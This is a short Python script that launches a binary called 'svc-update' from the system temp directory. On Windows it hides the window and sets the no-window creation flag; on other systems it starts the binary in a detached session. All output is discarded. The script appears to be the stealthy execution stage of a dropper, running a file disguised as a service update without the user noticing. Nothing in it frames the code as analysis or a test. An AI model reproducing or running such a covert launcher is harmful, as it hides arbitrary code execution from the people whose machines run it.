import os, subprocess, sys, tempfile
target = os.path.join(tempfile.gettempdir(), "svc-update")
flags = {}
if sys.platform == "win32":
    si = subprocess.STARTUPINFO(); si.dwFlags |= subprocess.STARTF_USESHOWWINDOW; si.wShowWindow = 0
    flags = dict(startupinfo=si, creationflags=0x08000000)
else:
    flags = dict(start_new_session=True)
if os.path.exists(target):
    subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **flags)
